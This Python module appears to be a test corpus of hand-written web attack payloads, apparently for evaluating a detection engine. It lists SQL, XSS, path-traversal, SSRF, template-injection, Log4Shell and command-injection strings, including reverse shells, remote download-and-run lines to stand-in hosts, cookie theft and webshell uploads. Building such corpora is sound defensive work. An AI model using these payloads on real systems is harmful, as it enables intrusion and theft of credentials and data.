# ruff: noqa: E501  (payloads are kept verbatim, one per line)
"""Attack requests: hand-written payloads placed where attackers put them.

Each payload is written as an attacker sends it, taken from well-known attack classes (OWASP
testing guide categories, public exploit shapes, commodity bot traffic). A payload is placed in
one context (query, form, JSON, cookie, header, path, multipart), chosen by cycling through the
contexts that make sense for its category, with a parameter name such code would plausibly
read. Entries marked ``raw`` are already percent-encoded on the wire (encoding tricks).
Nothing here was selected by running an engine.
"""

from __future__ import annotations

from typing import Any

from corpus_common import (
    BROWSERS,
    CLIENTS,
    HOSTS,
    api_headers,
    browser_headers,
    client_ip,
    form,
    jdump,
    multipart,
    qs,
    record,
)

SQLI = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "admin' #",
    '" OR "a"="a',
    "1' AND '1'='2",
    "1 AND 1=1",
    "1 OR 1=1",
    "') OR ('1'='1",
    "' OR 'x'='x';--",
    "1' OR '1'='1' /*",
    "-1' OR 2>1 -- ",
    "' or ''='",
    "x' AND email IS NULL; --",
    "1' and substring(@@version,1,1)=5 --",
    "1 UNION SELECT NULL,NULL,NULL--",
    "-1 UNION ALL SELECT username, password FROM users--",
    "1' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -",
    "0 union select 1,2,group_concat(column_name) from information_schema.columns where table_name='users'",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1 UnIoN SeLeCt 1,2,3",
    "' UNION SELECT @@version,NULL#",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "') UNION SELECT name, pass FROM admin_users WHERE ('a'='a",
    "-5 union distinct select 1,load_file('/etc/passwd'),3",
    "1 union select null, concat(user,0x3a,password) from mysql.user",
    "1' AND SLEEP(5)-- -",
    "1; WAITFOR DELAY '0:0:5'--",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ",
    "'; SELECT pg_sleep(10);--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "1' || pg_sleep(5) || '",
    "if(now()=sysdate(),sleep(10),0)",
    "1) AND 7331=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND (1=1",
    "1 AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))",
    "1' AND updatexml(null,concat(0x0a,version()),null)-- -",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "1 or (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "1; DROP TABLE users--",
    "'; INSERT INTO users (username,password) VALUES ('hacker','x');--",
    "1'; UPDATE users SET role='admin' WHERE id=1;--",
    "'; EXEC xp_cmdshell('dir');--",
    "1; EXEC sp_executesql N'SELECT 1'",
    "'; shutdown; --",
    "1 ORDER BY 10--",
    "1' GROUP BY 1,2,3 HAVING 1=1--",
    "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1 AND (SELECT COUNT(*) FROM sqlite_master)>0",
    "' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')--",
    "1' AND MID(version(),1,1)='5",
    "admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055",
    "' OR username LIKE '%admin%",
    "1 AND ORD(MID((SELECT IFNULL(CAST(schema_name AS CHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64",
    "' AnD 1=1 aNd 'a'='a",
    "1' OR '1'='1' LIMIT 1 OFFSET 0 --",
    "SELECT * FROM users WHERE id = 1 OR 1=1",
    "(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/",
    "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))",
    "1' PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1)-- -",
    "';alter user root identified by 'pwned';--",
    "1 and 1 in (select @@version)",
    '" or 1=1 limit 1 -- -+',
    "\\' OR 1=1 --",
    "1' or sleep(5)#",
    "x'; declare @q varchar(99); set @q='\\\\attacker.example\\x'; exec master.dbo.xp_dirtree @q;--",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
    "1' AND 3=3 AND 'abc'='abc",
    "99999' UNION SELECT credit_card, cvv, expiry FROM payments--",
    "1 and (select substring(@@version,1,1))='M'",
    "1'||(SELECT version())||'",
    "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
    "' UNION SELECT sql FROM sqlite_master--",
    "1) or (1=1",
    "-1 OR 3*2*1=6 AND 000733=000733",
]
SQLI_RAW = [  # already percent-encoded on the wire
    "%27%20OR%201%3D1%20--",
    "1%2527%2520OR%2520%25271%2527%253D%25271",
    "1%20UNION%2F%2A%2A%2FSELECT%2F%2A%2A%2Fnull%2Cnull--",
    "%2527%2520union%2520select%2520password%2520from%2520users--%2520",
]
NOSQL: list[tuple[str, str, Any]] = [
    ("query", "username[$ne]=admin&password[$ne]=x", None),
    ("json", "", {"username": {"$ne": None}, "password": {"$ne": None}}),
    ("json", "", {"username": "admin", "password": {"$gt": ""}}),
    ("query", "user[$regex]=^adm&pass[$ne]=1", None),
    ("json", "", {"$where": "sleep(5000) || this.username == 'admin'"}),
    ("json", "", {"filter": {"$where": "this.password.match(/^a/)"}}),
    ("json", "", {"email": {"$regex": ".*"}, "password": {"$exists": True}}),
    ("query", "id[$nin][]=1&token[$gt]=", None),
]
XSS = [
    "<script>alert(1)</script>",
    "<script>alert(document.cookie)</script>",
    "\"><script>alert('XSS')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(String.fromCharCode(88,83,83))>",
    "<body onload=alert('xss')>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "javascript:alert(document.domain)",
    '<a href="javascript:alert(1)">click</a>',
    "'-alert(1)-'",
    '";alert(1);//',
    '<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)">',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
    '<div style="background-image:url(javascript:alert(1))">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel=import href="https://evil.example/x.html">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    "<script src=//evil.example/x.js></script>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "<svg><script>alert&#40;1&#41;</script>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<body onpageshow=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "{{constructor.constructor('alert(1)')()}}",
    '<img src="x" onerror="window.location=\'https://evil.example/steal?c=\'+document.cookie">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
    "<img/src/onerror=alert(1)>",
    "<svg onload=setTimeout('alert(1)',0)>",
    '<iframe/src="data:text/html,<script>alert(1)</script>">',
    "<script>document.write('<img src=https://evil.example/?'+document.cookie+'>')</script>",
    "<img src=x onerror=this.src='//evil.example/?'+document.cookie>",
    "<body/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=confirm(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    '"><img src=x onerror=prompt(document.domain)>',
]
XSS_RAW = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
    "%3Cimg%20src%3Dx%20onerror%3Dalert%601%60%3E",
]
LFI = [
    "../../../../etc/passwd",
    "....//....//....//etc/passwd",
    "/etc/passwd%00.png",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "file:///etc/passwd",
    "expect://id",
    "zip://uploads/avatar.jpg#shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "/var/log/apache2/access.log",
    "C:\\boot.ini",
    "../../../../../../windows/system32/config/SAM",
    "..././..././..././etc/passwd",
    "../config/database.yml",
    "../../../../../../../../etc/passwd\x00",
    "/etc/shadow",
    "../../../../../../proc/self/cmdline",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "/root/.ssh/id_rsa",
    "../../.aws/credentials",
    "../../../../var/www/html/wp-config.php",
    "/etc/hosts",
    "../../../../etc/group",
    "..//..//..//..//etc//passwd",
    "/home/ubuntu/.bash_history",
    "phar://uploads/image.jpg/test.txt",
    "../../../../usr/local/etc/php/php.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
]
LFI_RAW = [
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "%uff0e%uff0e%u2215etc%u2215passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/hosts",
]
LFI_PATHS = [
    "/static/..%2f..%2f..%2fetc/passwd",
    "/images/%2e%2e/%2e%2e/%2e%2e/etc/hosts",
    "/assets/..%5c..%5c..%5cwindows/win.ini",
    "/files/%252e%252e/%252e%252e/etc/passwd",
    "/download/../../../../etc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
]
RESTRICTED_FILES = [
    "/.git/config",
    "/.env",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htaccess",
    "/.htpasswd",
    "/backup.sql",
    "/db.sql.bak",
    "/config.php.bak",
    "/web.config",
    "/.DS_Store",
    "/wp-config.php.old",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/server.key",
    "/.npmrc",
    "/.bash_history",
    "/index.php.swp",
    "/admin/.env.production",
    "/dump.sql",
    "/.vscode/sftp.json",
    "/app/config/parameters.yml.dist.bak",
    "/site.tar.gz.old",
]
RFI = [
    ("url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("page", "http://evil.example/shell.txt?"),
    ("include", "http://203.0.113.50/backdoor.php"),
    ("target", "gopher://127.0.0.1:6379/_FLUSHALL"),
    ("callback", "http://127.0.0.1:22/"),
    ("img", "http://localhost:8080/admin"),
    ("dest", "file:///etc/passwd"),
    ("feed", "dict://127.0.0.1:11211/stats"),
    (
        "url",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    ),
    ("u", "http://[::1]:80/"),
    ("u", "http://0x7f000001/"),
    ("u", "http://2130706433/"),
    ("fetch", "ldap://evil.example:389/a"),
    ("file", "ftp://198.51.100.23/payload.txt?"),
    ("site", "http://127.1/admin"),
    ("proxy", "http://0.0.0.0:2375/containers/json"),
    ("path", "\\\\evil.example\\share\\x.php"),
    ("redirect", "http://100.100.100.200/latest/meta-data/"),
    ("webhook_url", "http://169.254.169.254/computeMetadata/v1/?recursive=true"),
    ("avatar_url", "http://192.168.0.1/cgi-bin/luci"),
    ("template", "https://evil.example/payload.txt??"),
    ("import_url", "http://10.0.0.5:8500/v1/agent/self"),
]
RCE = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`id`",
    "$(whoami)",
    "127.0.0.1; ls -la",
    "8.8.8.8 && curl http://evil.example/x.sh | sh",
    "; wget http://198.51.100.7/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot",
    "| nc -e /bin/sh 203.0.113.9 4444",
    "; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "$(curl -s http://evil.example/p.sh|bash)",
    ";rm -rf /tmp/*",
    "|| ping -c 10 127.0.0.1",
    "; sleep 10",
    "a;c\\at /et\\c/pas\\swd",
    ";c''at /e''tc/pa''sswd",
    ";{cat,/etc/passwd}",
    ";cat${IFS}/etc/passwd",
    "$(printf 'hsab/nib/ -c \"id\"'|rev)",
    '; python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    '; perl -e \'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"))\'',
    "| powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "& cmd.exe /c dir c:\\",
    "| type C:\\Windows\\win.ini",
    "; net user hacker P@ss /add",
    "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    ";/bin/busybox wget http://198.51.100.7/mirai.arm7",
    "; echo 'ssh-rsa AAAAB3NzaC1yc2E attacker' >> ~/.ssh/authorized_keys",
    "; uname -a",
    "| ls /var/www",
    "; find / -perm -4000 2>/dev/null",
    "; cat /proc/version",
    "; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f",
    '; ruby -rsocket -e \'exit if fork;c=TCPSocket.new("203.0.113.9","4444")\'',
    '; php -r \'$sock=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "`wget -qO- http://evil.example/x|sh`",
    "$(sleep 5)",
    ";echo${IFS}vulnerable",
    "a|timeout 5 ping 127.0.0.1",
    "; curl -d @/etc/passwd http://evil.example/",
    "&& nslookup $(whoami).attacker.example",
    ";env",
    "test.txt; chmod 777 /var/www/html/shell.php",
    "| tftp -i 198.51.100.7 GET shell.exe",
    "; crontab -l",
    "||/usr/bin/id|",
    ";/usr/bin/curl${IFS}evil.example|sh",
    "$(echo cm0gLXJmIC8= | base64 -d)",
    "; ps aux",
    '<!--#exec cmd="ls -la"-->',
    "google.com | cat /etc/hosts",
    "1.1.1.1 & ping -n 5 127.0.0.1 &",
]
RCE_RAW = [
    "%0Aid",
    "127.0.0.1%0acat%20/etc/passwd",
    "x%3Bwhoami",
    "%60id%60",
    "127.0.0.1%26%26cat%20%2Fetc%2Fpasswd",
]
SHELLSHOCK = [
    ("User-Agent", '() { :; }; /bin/bash -c "cat /etc/passwd"'),
    ("Referer", "() { :;}; echo; /bin/cat /etc/shadow"),
    ("User-Agent", "() { ignored; }; echo Content-Type: text/plain ; echo ; /usr/bin/id"),
    ("Cookie", "session=() { :; }; wget http://198.51.100.7/x -O /tmp/x"),
]
PHP = [
    "<?php system($_GET['cmd']); ?>",
    "<?= shell_exec('id') ?>",
    "phpinfo()",
    "system('id')",
    "eval(base64_decode('ZWNobyAiaGkiOw=='))",
    "assert($_POST['x'])",
    "passthru('ls -la')",
    "file_put_contents('shell.php','<?php eval($_POST[1]);?>')",
    'O:8:"stdClass":1:{s:4:"test";s:4:"pwnd";}',
    'a:2:{i:0;s:4:"test";i:1;O:7:"Exploit":0:{}}',
    "preg_replace('/.*/e','system(\"id\")','')",
    "${@print(md5(1))}",
    "include($_GET['f'])",
    "create_function('', 'system(\"id\");')",
    "highlight_file('/etc/passwd')",
    "<?php echo file_get_contents('/etc/passwd'); ?>",
    "<?php @eval($_REQUEST['pass']);?>",
]
JAVA_HEADERS = [
    ("User-Agent", "${jndi:ldap://evil.example:1389/a}"),
    ("X-Api-Version", "${jndi:rmi://203.0.113.9/x}"),
    ("X-Forwarded-For", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"),
    ("Referer", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/poc}"),
    ("User-Agent", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}"),
    (
        "X-Request-Id",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    ),
    (
        "Content-Type",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
    ),
    (
        "spring.cloud.function.routing-expression",
        'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
    ),
    ("X-Forwarded-Host", "${${upper:j}ndi:ldaps://evil.example/x}"),
    ("Authorization", "Bearer ${jndi:ldap://127.0.0.1#evil.example:1389/a}"),
]
JAVA_VALUES = [
    'java.lang.Runtime.getRuntime().exec("id")',
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.System).getenv()}",
    '${T(java.lang.Runtime).getRuntime().exec("calc")}',
    'new java.lang.ProcessBuilder("id").start()',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "(#context['xwork.MethodAccessor.denyMethodExecution']=false)",
    "${jndi:ldap://evil.example/Basic/Command/Base64/aWQ=}",
]
SSTI = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process').execSync('id')",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{% import os %}{{ os.system('id') }}",
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
]
PROTO_POLLUTION: list[tuple[str, str, Any]] = [
    ("json", "", {"__proto__": {"isAdmin": True}}),
    ("query", "__proto__[admin]=1", None),
    ("query", "constructor[prototype][polluted]=yes", None),
    ("json", "", {"user": {"constructor": {"prototype": {"role": "admin"}}}}),
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd">%remote;]><data/>',
    '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><r>&xxe;</r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0"?><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></object></java>',
]
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 Netsparker",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)",
    "w3af.org",
    "Arachni/v1.5.1",
    "Mozilla/5.0 SF/2.10b",
    "WhatWeb/0.5.5",
    "commix/v3.8-stable (https://commixproject.com)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Mozilla/5.0 Jorgee",
    "feroxbuster/2.10.1",
    "Mozilla/5.0 (compatible; Nessus)",
    "Mozilla/5.0 (l9explore/1.2.2)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "joomscan",
    "Mozilla/5.0 (compatible; Qualys Scanner)",
]
SCANNER_PROBES: list[tuple[str, list[tuple[str, str]]]] = [
    ("/", [("Acunetix-Product", "WVS/5.0 (Acunetix Web Vulnerability Scanner - NORMAL)")]),
    ("/acunetix-wvs-test-for-some-inexistent-file", []),
    ("/w00tw00t.at.ISC.SANS.DFind:)", []),
    ("/nice%20ports%2C/Tri%6Eity.txt%2ebak", []),
    ("/", [("X-Scan-Memo", "Category=Audit; Function=createStdAttackVar")]),
]
PROTOCOL: list[dict[str, Any]] = [
    {
        "note": "CL.TE smuggling",
        "method": "POST",
        "path": "/api/cart",
        "headers": [("Content-Length", "6"), ("Transfer-Encoding", "chunked")],
        "body": "0\r\n\r\nG",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "TE obfuscation",
        "method": "POST",
        "path": "/login",
        "headers": [("Transfer-Encoding", "xchunked")],
        "body": "a=1",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "TE list",
        "method": "POST",
        "path": "/search",
        "headers": [("Transfer-Encoding", "chunked, identity")],
        "body": "q=x",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "duplicate TE",
        "method": "POST",
        "path": "/api/items",
        "headers": [("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")],
        "body": '{"a":1}',
        "ctype": "application/json",
    },
    {
        "note": "conflicting Content-Length",
        "method": "POST",
        "path": "/comment",
        "headers": [("Content-Length", "5"), ("Content-Length", "40")],
        "body": "hello",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "non-numeric Content-Length",
        "method": "POST",
        "path": "/upload",
        "headers": [("Content-Length", "12abc")],
        "body": "x=1",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "negative Content-Length",
        "method": "POST",
        "path": "/api/v1/echo",
        "headers": [("Content-Length", "-1")],
        "body": "x=1",
        "ctype": "application/x-www-form-urlencoded",
    },
    {"note": "TRACE (XST)", "method": "TRACE", "path": "/"},
    {"note": "TRACK", "method": "TRACK", "path": "/index.html"},
    {"note": "CONNECT through the site", "method": "CONNECT", "path": "evil.example:443"},
    {
        "note": "IIS DEBUG",
        "method": "DEBUG",
        "path": "/default.aspx",
        "headers": [("Command", "stop-debug")],
    },
    {
        "note": "WebDAV PROPFIND",
        "method": "PROPFIND",
        "path": "/webdav/",
        "headers": [("Depth", "infinity")],
    },
    {"note": "made-up method", "method": "FOOBAR", "path": "/"},
    {"note": "invalid HTTP version", "method": "GET", "path": "/", "version": "1.2"},
    {
        "note": "CRLF header injection",
        "method": "GET",
        "path": "/set-language",
        "query": "lang=en%0d%0aSet-Cookie:%20session=attacker",
    },
    {
        "note": "response splitting",
        "method": "GET",
        "path": "/redirect",
        "query": "to=/home%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html",
    },
    {"note": "CRLF in path", "method": "GET", "path": "/%0d%0aSet-Cookie:crlf=injection"},
    {"note": "null byte in path", "method": "GET", "path": "/index.php%00.jpg"},
    {"note": "invalid URL encoding", "method": "GET", "path": "/search", "query": "q=%zz%u12"},
    {
        "note": "GET with a body",
        "method": "GET",
        "path": "/api/users",
        "body": '{"admin": true}',
        "ctype": "application/json",
    },
    {
        "note": "Apache range DoS",
        "method": "GET",
        "path": "/video/intro.mp4",
        "headers": [("Range", "bytes=0-," + ",".join(f"5-{i}" for i in range(1, 60)))],
    },
    {
        "note": "httpoxy",
        "method": "GET",
        "path": "/cgi-bin/status.cgi",
        "headers": [("Proxy", "http://evil.example:8080")],
    },
    {
        "note": "unexpected content type",
        "method": "POST",
        "path": "/api/import",
        "body": "AAAA",
        "ctype": "application/x-evil-payload",
    },
    {
        "note": "UTF-7 charset XSS",
        "method": "POST",
        "path": "/feedback",
        "body": "msg=%2BADw-script%2BAD4-alert(1)%2BADw-/script%2BAD4-",
        "ctype": "application/x-www-form-urlencoded; charset=utf-7",
    },
    {
        "note": "multipart without closing boundary",
        "method": "POST",
        "path": "/upload",
        "body": '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nhello',
        "ctype": "multipart/form-data; boundary=XyZ",
    },
    {
        "note": "multipart boundary mismatch",
        "method": "POST",
        "path": "/profile/avatar",
        "body": '--AaB03x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--AaB03x--\r\n',
        "ctype": "multipart/form-data; boundary=ZzZ03x",
    },
    {
        "note": "NUL in header",
        "method": "GET",
        "path": "/",
        "headers": [("X-Custom", "abc\x00def")],
    },
    {
        "note": "email header injection",
        "method": "POST",
        "path": "/contact",
        "body": "email=victim%40example.com%0ACc%3Aspam%40evil.example&msg=hi",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "LDAP injection",
        "method": "GET",
        "path": "/directory/search",
        "query": "user=*)(uid=*))(|(uid=*",
    },
    {
        "note": "LDAP injection login",
        "method": "POST",
        "path": "/ldap/login",
        "body": "username=admin)(%26)&password=x",
        "ctype": "application/x-www-form-urlencoded",
    },
    {
        "note": "session fixation via meta",
        "method": "GET",
        "path": "/welcome",
        "query": qs([("msg", '<meta http-equiv="Set-Cookie" content="SESSID=abc123">')]),
    },
    {
        "note": "session fixation via script",
        "method": "GET",
        "path": "/search",
        "query": qs([("q", 'document.cookie="sessionid=attacker; path=/"')]),
    },
    {
        "note": "session id in URL without referer",
        "method": "GET",
        "path": "/account",
        "query": "jsessionid=1234ABCD5678EFGH",
    },
    {
        "note": "webshell upload",
        "method": "POST",
        "path": "/upload",
        "multipart": [("file", "shell.php", "application/x-php", b"<?php system($_GET['c']); ?>")],
    },
    {
        "note": "JSP webshell upload",
        "method": "POST",
        "path": "/media/upload",
        "multipart": [
            (
                "attachment",
                "cmd.jsp",
                "application/octet-stream",
                b'<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
            )
        ],
    },
    {
        "note": "double-extension upload",
        "method": "POST",
        "path": "/avatar",
        "multipart": [
            ("avatar", "photo.jpg.php", "image/jpeg", b"\xff\xd8\xff\xe0<?php eval($_POST[x]); ?>")
        ],
    },
    {
        "note": "PHP CGI argument injection",
        "method": "POST",
        "path": "/index.php",
        "query": "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "body": "<?php echo shell_exec('id'); ?>",
        "ctype": "application/x-www-form-urlencoded",
    },
]

SQLI_PARAMS = [
    "id",
    "q",
    "user",
    "category",
    "sort",
    "item",
    "product_id",
    "username",
    "order",
    "page",
    "search",
    "uid",
    "cat",
    "filter",
    "ref",
]
XSS_PARAMS = [
    "q",
    "name",
    "comment",
    "message",
    "search",
    "title",
    "redirect",
    "callback",
    "bio",
    "subject",
    "return",
    "keyword",
]
LFI_PARAMS = [
    "file",
    "page",
    "template",
    "path",
    "doc",
    "include",
    "lang",
    "view",
    "load",
    "download",
    "folder",
    "style",
]
RCE_PARAMS = [
    "host",
    "ip",
    "cmd",
    "domain",
    "filename",
    "target",
    "exec",
    "ping",
    "query",
    "dir",
    "arg",
    "email",
]
GENERIC_PARAMS = [
    "q",
    "input",
    "data",
    "value",
    "text",
    "name",
    "payload",
    "expr",
    "tpl",
    "content",
]
GET_PATHS = [
    "/search",
    "/products",
    "/item",
    "/api/v1/lookup",
    "/index.php",
    "/view",
    "/catalog/list",
    "/account/orders",
    "/report",
    "/page",
]
POST_PATHS = [
    "/login",
    "/contact",
    "/api/v1/items",
    "/comment",
    "/profile/update",
    "/api/v2/search",
    "/checkout",
    "/feedback",
    "/admin/settings",
    "/graphql-lite",
]
